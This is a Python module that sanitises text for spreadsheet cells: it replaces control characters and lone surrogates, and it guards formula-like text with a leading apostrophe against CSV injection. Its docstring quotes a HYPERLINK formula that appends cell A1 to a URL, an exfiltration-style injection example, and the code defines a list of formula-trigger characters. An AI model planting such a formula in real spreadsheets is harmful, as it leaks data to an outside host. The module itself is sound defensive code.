"""Text that is safe in a spreadsheet cell.

Titles and notes come from imported files and from chat: a title typed as
`=HYPERLINK("http://…?"&A1,"…")` must reach TCCB's workbook as the text it is, never as a live
formula, and a control character pasted from Word (U+000B, its line break) must not make the
whole report unwritable (XML 1.0 refuses U+0000–U+001F except tab, line feed and return)."""

from __future__ import annotations

import re

# The OWASP CSV-injection rule: a cell whose text begins with one of these may be read as a
# formula by a spreadsheet (now, or when somebody edits the cell and presses Enter).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"

# Line-like controls become a line break: U+000B (Word's manual line break), form feed, CR
# (a lone one or of CRLF), and the information separators U+001C–U+001E; every other C0
# control (tab included) becomes a space. Line feed stays as it is.
_CRLF = re.compile(r"\r\n?")
_LINE_LIKE = re.compile("[\x0b\x0c\x1c-\x1e]")
_OTHER_CONTROLS = re.compile("[\x00-\x08\x09\x0e-\x1b\x1f]")
# Lone surrogates (from a broken client) cannot be encoded as UTF-8 at all.
_SURROGATES = re.compile("[\ud800-\udfff]")
_ANY = re.compile("[\x00-\x09\x0b-\x1f\ud800-\udfff]")


def clean_text(text: str) -> str:
    """Control characters replaced: line-like ones by a line break, the others by a space;
    lone surrogates by U+FFFD. What a person reads stays the same."""
    if _ANY.search(text) is None:  # nearly every text: one scan, nothing to replace
        return text
    text = _CRLF.sub("\n", text)
    text = _LINE_LIKE.sub("\n", text)
    text = _OTHER_CONTROLS.sub(" ", text)
    return _SURROGATES.sub("\ufffd", text)


def sheet_text(text: str) -> str:
    """The text as a spreadsheet cell must hold it: cleaned, and guarded by a leading
    apostrophe when it begins like a formula (`=`, `+`, `-`, `@`, tab or CR)."""
    guarded = text.startswith(FORMULA_STARTS)
    text = clean_text(text)
    if guarded or text.startswith(FORMULA_STARTS):
        return GUARD + text
    return text
